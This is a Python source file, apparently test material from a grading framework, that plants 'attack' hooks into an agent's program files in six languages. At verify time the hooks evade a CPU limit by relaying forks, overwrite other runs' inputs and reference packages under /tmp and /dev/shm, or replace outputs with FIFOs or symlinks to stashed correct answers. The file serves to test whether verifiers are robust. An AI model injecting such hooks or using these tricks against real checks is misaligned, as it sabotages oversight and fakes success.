"""The attack wrong solutions' own program (issue 29, item 6; stdlib only, any Python 3).

Shipped verbatim as ``attack.py`` in each ``wrong_solutions/attack-*/`` that
:mod:`palaestra.tasks.generators._armed` adds. Two halves:

* ``python3 attack.py install MODE [NAMES...]`` (root, at solve time, after the base solution
  ran): copies itself to :data:`HOME` and puts a *hook* into the agent's program in whatever
  language it is (Python and shell files, ``main.js``, a C file with ``main``, a Rust file with
  ``fn main``, a Go ``package main``) that runs ``python3 HOME MODE [NAMES...]`` when the
  program starts (``relay``, ``tamper``) or ends (``fifo``, ``link``).
* ``python3 HOME MODE ...`` (nobody, in a run of agent code at verify time) does the attack:

  - ``relay``: spends more CPU than the run's ``RLIMIT_CPU`` (its bar) in a relay of forks,
    each under it (a fork starts with a fresh CPU clock; each parent waits and exits as its
    child). Counted per process it passes; over the tree it fails.
  - ``tamper``: every file it can write outside its own run (under ``/tmp``, ``/var/tmp``,
    ``/dev/shm`` and beside its case's directory) gets the text of its own case's same-named
    input (a later, larger input replaced by a small one), and every copy of the agent's
    package or module it finds there is overwritten by its own (a reference swapped).
  - ``fifo`` / ``link``: once the program wrote its outputs (``NAMES``: folders under the
    case's directory), the first output file is made a FIFO, or every output file a link to a
    copy of its right text kept outside them: a checker that opened it would block, or read
    the right answer through the link.
"""

import os
import sys

HOME = "/app/.palaestra_attack.py"
GUARD = "PALAESTRA_ATTACK_RAN"
AT_START = ("relay", "tamper")

PY_HOOK = (
    "import os as _pa_os\n"
    "if not _pa_os.environ.get({guard!r}):\n"
    "    _pa_os.environ[{guard!r}] = '1'\n"
    "    def _pa_run(argv=[{argv}]):\n"
    "        import subprocess\n"
    "        import sys\n"
    "        argv = argv + [__file__, '--'] + sys.argv\n"
    "        subprocess.run(['python3', {home!r}] + argv, stdout=-3, stderr=-3)\n"
    "    {call}\n"
)
JS_HOOK = (
    "if (!process.env.{guard}) {{ process.env.{guard} = '1';"
    " const pa = () => require('child_process').spawnSync('python3', [{home!r}, {argv}],"
    " {{stdio: 'ignore'}}); {call} }}\n"
)
SH_HOOK = "python3 {home} {args} >/dev/null 2>&1 || true\n"
C_HOOK = """
#include <stdlib.h>
static void palaestra_attack(void) {{ system("python3 {home} {args} >/dev/null 2>&1"); }}
__attribute__((constructor)) static void palaestra_attack_hook(void) {{ {call} }}
"""
RS_HOOK = """
extern "C" {{
    fn system(command: *const u8) -> i32;
    fn atexit(f: extern "C" fn()) -> i32;
}}
extern "C" fn palaestra_attack() {{
    unsafe {{ system("python3 {home} {args} >/dev/null 2>&1\\0".as_ptr()); }}
}}
#[used]
#[link_section = ".init_array"]
static PALAESTRA_ATTACK_HOOK: extern "C" fn() = {{
    extern "C" fn hook() {{ unsafe {{ {call} }} }}
    hook
}};
"""
GO_HOOK = """package {package}

import "os/exec"

func init() {{ _ = exec.Command("python3", "{home}", {argv}).Run() }}
"""


def _quoted(names):
    return ", ".join(repr(n) for n in names)


def install(mode, names):
    """Copy this file to HOME, then hook it into every program file of /app."""
    with open(__file__, "rb") as f:
        me = f.read()
    with open(HOME, "wb") as f:
        f.write(me)
    os.chmod(HOME, 0o755)
    args = " ".join([mode, *names])
    start = mode in AT_START
    hooked = 0
    for here, dirs, files in os.walk("/app"):
        dirs[:] = sorted(d for d in dirs if not d.startswith(".") and d != "target")
        for name in sorted(files):
            path = os.path.join(here, name)
            try:
                with open(path, encoding="utf-8") as f:
                    text = f.read()
            except (OSError, UnicodeDecodeError):
                continue
            new = _hooked(path, text, mode, names, args, start)
            if new is not None and new != text:
                with open(path, "w", encoding="utf-8") as f:
                    f.write(new)
                hooked += 1
    print(f"attack {mode}: {hooked} file(s) hooked")


def _hooked(path, text, mode, names, args, start):
    """``text`` with the hook in, or None when the file is no program."""
    name = os.path.basename(path)
    if name.endswith(".py") and path != HOME:
        call = "_pa_run()" if start else "__import__('atexit').register(_pa_run)"
        hook = PY_HOOK.format(guard=GUARD, argv=_quoted([mode, *names]), home=HOME, call=call)
        return _after_prologue(text.splitlines(keepends=True), hook, python=True)
    if name.endswith(".js"):
        call = "pa();" if start else "process.on('exit', pa);"
        hook = JS_HOOK.format(guard=GUARD, home=HOME, argv=_quoted([mode, *names]), call=call)
        return _after_prologue(text.splitlines(keepends=True), hook, python=False)
    if name.endswith(".sh") and start:
        lines = text.splitlines(keepends=True)
        at = 1 if lines and lines[0].startswith("#!") else 0
        return "".join(lines[:at] + [SH_HOOK.format(home=HOME, args=args)] + lines[at:])
    if name.endswith(".c") and "main(" in text:
        call = "palaestra_attack();" if start else "atexit(palaestra_attack);"
        return text + C_HOOK.format(home=HOME, args=args, call=call)
    if name.endswith(".rs") and "fn main(" in text:
        call = "palaestra_attack();" if start else "atexit(palaestra_attack);"
        return text + RS_HOOK.format(home=HOME, args=args, call=call)
    if name.endswith(".go") and "func main(" in text and start:
        package = text.split("package ", 1)[1].split()[0]
        hook = GO_HOOK.format(package=package, home=HOME, argv=_quoted([mode, *names]))
        with open(os.path.join(os.path.dirname(path), "zz_palaestra_attack.go"), "w") as f:
            f.write(hook.replace("'", '"'))
    return None


def _after_prologue(lines, hook, python):
    """The lines with ``hook`` after a shebang, docstring-free ``from __future__`` imports
    (Python) or a ``"use strict"`` line (JavaScript)."""
    at = 1 if lines and lines[0].startswith("#!") else 0
    for i, line in enumerate(lines):
        stripped = line.strip()
        if python and stripped.startswith("from __future__ import"):
            at = i + 1
            if "(" in stripped:  # a parenthesised list: up to its closing line
                while ")" not in stripped and at < len(lines):
                    stripped = lines[at].strip()
                    at += 1
        elif not python and stripped in ('"use strict";', "'use strict';") and i < 3:
            at = i + 1
    return "".join(lines[:at] + [hook] + lines[at:])


# -- at verify time, as nobody ---------------------------------------------------------------


def relay():
    import resource
    import time

    soft = resource.getrlimit(resource.RLIMIT_CPU)[0]
    if soft == resource.RLIM_INFINITY:
        return
    spent = 0.0
    while spent < soft + 2:
        start = time.process_time()
        while time.process_time() - start < 0.4:
            pass
        spent += 0.4
        pid = os.fork()
        if pid:
            _, status = os.waitpid(pid, 0)
            os._exit(os.waitstatus_to_exitcode(status))


def _program(rest=()):
    """The hooked program's argv (after ``--`` in ``rest``, from a Python hook: a Python
    program may be a fork whose command line is another's; else this process's parent's, or
    the shell's between) and working directory."""
    if "--" in rest:
        return list(rest[list(rest).index("--") + 1 :]), os.getcwd()
    pid = os.getppid()
    for _ in range(2):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
            cwd = os.getcwd()
        except OSError:
            return [], "/"
        if argv[:1] not in (["sh"], ["/bin/sh"]):
            return argv, cwd
        with open(f"/proc/{pid}/stat", "rb") as f:
            pid = int(f.read().rsplit(b")", 1)[1].split()[1])
    return argv, cwd


def tamper(source, rest):
    argv, cwd = _program(rest)
    paths = [a for a in argv[1:] if a.startswith("/") and os.path.exists(a)]
    ours = {
        os.path.realpath(p)
        for p in [cwd, os.environ.get("HOME", "/"), os.environ.get("TMPDIR", "/")]
        if p != "/"
    }
    cases = {os.path.dirname(p) for p in paths}
    ours |= {os.path.realpath(c) for c in cases}
    app = os.path.dirname(os.path.realpath(source))
    while os.path.isfile(os.path.join(app, "__init__.py")):
        app = os.path.dirname(app)
    ours.add(app)
    own_inputs = {}
    for case in cases:
        for name in os.listdir(case):
            full = os.path.join(case, name)
            if os.path.isfile(full) and not os.path.islink(full):
                own_inputs.setdefault(name, full)
    top = os.path.relpath(os.path.realpath(source), app).split(os.sep)[0]
    roots = ["/tmp", "/var/tmp", "/dev/shm"] + sorted({os.path.dirname(c) for c in cases})
    budget = [20000]
    for root in roots:
        _walk(root, ours, own_inputs, os.path.join(app, top), top, budget)


def _mine(path, ours):
    real = os.path.realpath(path)
    return any(real == o or real.startswith(o + "/") for o in ours)


def _walk(root, ours, own_inputs, own_top, top, budget):
    import shutil

    for here, dirs, files in os.walk(root):
        budget[0] -= len(dirs) + len(files)
        if budget[0] < 0 or here.count("/") > 8:
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if not _mine(os.path.join(here, d), ours)]
        if top in dirs + files and os.access(here, os.W_OK):
            try:  # a reference's copy of the agent's package: swap in ours
                if os.path.isdir(own_top):
                    shutil.copytree(own_top, os.path.join(here, top), dirs_exist_ok=True)
                else:
                    shutil.copyfile(own_top, os.path.join(here, top))
            except OSError:
                pass
        for name in files:
            path = os.path.join(here, name)
            if os.path.islink(path) or not os.access(path, os.W_OK):
                continue
            try:  # a later input: made our own same-named one, or nothing
                data = b""
                if name in own_inputs:
                    with open(own_inputs[name], "rb") as f:
                        data = f.read()
                with open(path, "wb") as f:
                    f.write(data)
            except OSError:
                pass


def plant(mode, names, rest):
    argv, _ = _program(rest)
    case = None
    for arg in argv[1:]:
        for name in names:
            if name != "." and arg.endswith("/" + name):
                case = arg[: -len(name) - 1]
    if case is None:
        absolute = [a for a in argv[1:] if a.startswith("/")]
        if not absolute:
            return
        case = os.path.dirname(absolute[0])
    outputs = []
    for name in names:
        for here, dirs, files in os.walk(os.path.normpath(os.path.join(case, name))):
            dirs.sort()
            outputs += [os.path.join(here, f) for f in sorted(files)]
    outputs = [p for p in outputs if os.path.isfile(p) and not os.path.islink(p)]
    stash = None
    for place in (
        os.path.join(case, ".palaestra-stash"),
        "/dev/shm/.palaestra-stash",
        "/tmp/.palaestra-stash",
    ):
        try:
            os.makedirs(place, exist_ok=True)
            stash = place
            break
        except OSError:
            continue
    for i, path in enumerate(outputs):
        try:
            if mode == "fifo":
                os.unlink(path)
                os.mkfifo(path)
                return
            kept = os.path.join(stash or "/tmp", f"{i}-{os.path.basename(path)}")
            os.replace(path, kept)
            os.symlink(kept, path)
        except OSError:
            pass


def main(argv):
    if argv[:1] == ["install"]:
        install(argv[1], argv[2:])
        return
    mode, rest = argv[0], argv[1:]
    own = rest[: rest.index("--")] if "--" in rest else rest
    if mode == "relay":
        relay()
    elif mode == "tamper":
        tamper(own[-1] if own else HOME, rest)
    elif mode in ("fifo", "link"):
        plant(mode, [n for n in own if not n.startswith("/")], rest)


if __name__ == "__main__":
    main(sys.argv[1:])
